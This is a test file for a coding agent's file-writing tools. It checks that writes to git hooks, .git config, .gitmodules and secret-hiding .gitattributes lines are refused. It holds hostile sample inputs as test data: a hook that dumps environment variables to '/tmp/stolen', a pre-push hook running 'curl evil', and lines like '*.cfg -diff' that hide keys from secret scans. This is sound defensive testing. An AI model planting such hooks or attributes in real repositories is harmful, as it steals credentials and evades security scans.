import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { applyEdits } from '../../src/agents/builtin/index.js';
import { runTool, type ToolContext } from '../../src/agents/builtin/tools/index.js';
import { tempTree, toolContext } from '../unit/agents-builtin/helpers.js';

/**
 * Finding 2 of issue 9, last part: the built-in agent's write tools must not write what
 * changes how git runs on the service's side: `.git`, hook folders a `core.hooksPath` points
 * at, `.gitmodules`, and `.gitattributes` lines that switch diff, filter or merge drivers
 * (`*.cfg -diff` hid an AWS key from the secret scan).
 */
let tree: Awaited<ReturnType<typeof tempTree>>;
let ctx: ToolContext;

beforeEach(async () => {
  tree = await tempTree();
  writeFileSync(path.join(tree.repo, 'README.md'), '# x\n');
  ctx = toolContext(tree.repo);
});
afterEach(() => tree.cleanup());

const write = (p: string, content = 'x\n') => runTool('write_file', { path: p, content }, ctx);
const patch = (p: string, search: string, replace: string) =>
  runTool('apply_patch', { edits: [{ path: p, search, replace }] }, ctx);
const textOf = (o: Awaited<ReturnType<typeof runTool>>) => (o.kind === 'result' ? o.text : '');

describe('protected paths', () => {
  it.each([
    '.git/hooks/post-checkout',
    '.git/config',
    'sub/.git/config',
    '.GIT/hooks/pre-commit',
    '.gitmodules',
    'vendor/.gitmodules',
    '.husky/pre-commit',
    '.husky/_/husky.sh',
    '.githooks/post-checkout',
    'tools/.githooks/reference-transaction',
  ])('write_file %s is refused with a clear tool error', async (p) => {
    const out = textOf(await write(p, '#!/bin/sh\nenv > /tmp/stolen\n'));
    expect(out).toMatch(/^error: nothing was changed/);
    expect(out).toMatch(/protected|off limits/);
    expect(ctx.changed.size).toBe(0);
  });

  it('an apply_patch that creates a hook is refused, and nothing of the batch is written', async () => {
    const out = textOf(
      await runTool(
        'apply_patch',
        {
          edits: [
            { path: 'src/ok.ts', search: '', replace: 'export {};\n' },
            { path: '.husky/pre-push', search: '', replace: 'curl evil\n' },
          ],
        },
        ctx,
      ),
    );
    expect(out).toMatch(/^error: nothing was changed/);
    expect(() => readFileSync(path.join(tree.repo, 'src/ok.ts'))).toThrow();
  });
});

describe('.gitattributes', () => {
  it.each([
    '*.cfg -diff',
    '*.cfg binary',
    '* filter=lfs-evil',
    '*.js diff=evil',
    '*.txt merge=ours',
    '*.env !diff',
    '[attr]hide -diff -merge',
    'secrets/** text -diff eol=lf',
  ])('a new line %j is refused', async (line) => {
    const out = textOf(await write('.gitattributes', `*.sh text eol=lf\n${line}\n`));
    expect(out).toMatch(/^error: nothing was changed/);
    expect(out).toContain('.gitattributes');
    expect(() => readFileSync(path.join(tree.repo, '.gitattributes'))).toThrow();
  });

  it('in a subfolder too, and through apply_patch', async () => {
    mkdirSync(path.join(tree.repo, 'conf'));
    writeFileSync(path.join(tree.repo, 'conf', '.gitattributes'), '*.sh text eol=lf\n');
    const out = textOf(
      await patch('conf/.gitattributes', '*.sh text eol=lf\n', '*.sh text eol=lf\n*.cfg -diff\n'),
    );
    expect(out).toMatch(/^error: nothing was changed/);
    expect(readFileSync(path.join(tree.repo, 'conf', '.gitattributes'), 'utf8')).toBe('*.sh text eol=lf\n');
  });

  it('through the text edit format as well', async () => {
    const res = await applyEdits(ctx.sandbox, [
      { kind: 'write', path: '.gitattributes', content: '*.key -diff\n' },
    ]);
    expect(res.ok).toBe(false);
  });

  it('harmless attributes are fine, and lines already in the file may stay', async () => {
    writeFileSync(path.join(tree.repo, '.gitattributes'), '*.png binary\n');
    const out = textOf(
      await write('.gitattributes', '*.png binary\n*.sh text eol=lf\n*.md linguist-documentation\n'),
    );
    expect(out).toBe('ok: changed .gitattributes');
  });

  it('ordinary files, and names that only look similar, are written', async () => {
    expect(textOf(await write('src/git.ts'))).toBe('ok: changed src/git.ts');
    expect(textOf(await write('docs/.gitkeep'))).toBe('ok: changed docs/.gitkeep');
    expect(textOf(await write('.github/workflows/ci.yml'))).toBe('ok: changed .github/workflows/ci.yml');
    expect(textOf(await write('.gitignore', 'node_modules\n'))).toBe('ok: changed .gitignore');
  });
});
